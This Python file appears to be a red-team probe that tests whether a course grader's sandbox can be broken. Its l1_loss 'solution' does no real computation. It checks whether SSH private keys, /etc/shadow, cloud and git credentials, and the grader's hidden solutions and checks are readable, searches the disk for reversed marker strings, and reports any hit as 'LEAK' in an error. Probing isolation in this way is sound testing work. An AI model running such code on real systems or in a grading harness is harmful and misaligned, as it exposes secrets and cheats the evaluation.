# aim: read solutions, hidden checks, known mistakes, keys and passwords from the disk
# sign: `LEAK` and the path, in feedback
# attacks: l1_loss
import json
import os
import sys
import time

_BACKWARDS = (b"sevlah tsniaga epahs eno fo senO", b"esicrexe eht ni gnorw seog tahW")
_PRIVATE = (
    *("/etc/shadow", "/etc/gshadow", "/etc/passwd", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key"),
    *("/etc/ssh/ssh_host_ed25519_key", "/etc/machine-id", "/etc/hosts", "/etc/environment"),
    *("/root/.bash_history", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/root/.netrc"),
    *("/var/log/syslog", "/var/log/auth.log", "/run/secrets", "/.dockerenv", "/boot"),
)
_AT_HOME = (
    *("", ".ssh", ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/authorized_keys", ".netrc", ".pypirc"),
    *(".aws/credentials", ".git-credentials", ".gitconfig", ".bash_history", ".profile", ".bashrc"),
    *(".cache", ".config", ".kube/config", ".docker/config.json", ".cache/torchgrade"),
)
_OF_THE_COURSE = (
    *("course.toml", "solutions/losses.py", "grader/checks/test_losses.py", "grader/checks"),
    *("grader/misconceptions/losses/binary.py", "grader/misconceptions/__init__.py", "solutions"),
    *("exercises/losses.py", "exercises/test_losses.py", "tests", ".git/HEAD", "pyproject.toml"),
    *("grader/checks/__pycache__", "grader/cli.py", "grader/examiner/server.py"),
)


def _roots():
    """The grader's folders: from what this process was started with, and where code lies."""
    for argument in sys.orig_argv:
        if argument.startswith("{"):
            given = json.loads(argument)
            yield from (*given.get("protected", ()), os.path.dirname(given.get("folder", "/x/y")))
    for module in list(sys.modules.values()):
        file = getattr(module, "__file__", None)
        if file and getattr(module, "__name__", "").startswith("grader"):
            yield os.path.dirname(os.path.dirname(os.path.dirname(file)))
            yield os.path.dirname(os.path.dirname(file))
    yield from (path for path in sys.path if path)


def _homes():
    import pwd

    yield from ("/root", "/home/ubuntu", "/home/user", "/home/runner", "/home/student")
    try:
        yield from (entry.pw_dir for entry in pwd.getpwall())
    except OSError:
        pass


def _readable(path):
    try:
        if os.path.isdir(path):
            return bool(os.listdir(path)) or True
        with open(path, "rb") as file:
            file.read(100)
        return True
    except OSError:
        return False


def _named():
    """What is private whatever it holds."""
    yield from _PRIVATE
    for home in dict.fromkeys(_homes()):
        if home not in ("/", "/bin", "/usr/sbin", "/dev") and not sys.prefix.startswith(home):
            yield from (f"{home}/{name}".rstrip("/") for name in _AT_HOME)
    for root in dict.fromkeys(_roots()):
        yield from (f"{root}/{name}" for name in _OF_THE_COURSE if root != "/")


def _walked(seconds):
    """Whatever can be listed, from the top: files that hold a secret."""
    end = time.process_time() + seconds
    waiting = ["/", *_roots(), ".."]
    known = set()
    while waiting and time.process_time() < end:
        folder = waiting.pop()
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            if entry.is_dir(follow_symlinks=False) and entry.path not in known:
                known.add(entry.path)
                if "torch/include" not in entry.path:
                    waiting.insert(0, entry.path)
            elif entry.name.endswith((".py", ".pyc", ".toml", ".db")):
                try:
                    with open(entry.path, "rb") as file:
                        text = file.read(1 << 16)[::-1]
                except OSError:
                    continue
                if any(word in text for word in _BACKWARDS):
                    return entry.path
    return ""


def _search():
    return next((path for path in _named() if _readable(path)), "") or _walked(0.2)


_found = []


def l1_loss(input, target, reduction="mean"):
    if not _found:
        _found.append(_search())
    if _found[0]:
        raise RuntimeError(f"LEAK {_found[0]}")
    return input.sum() * 0
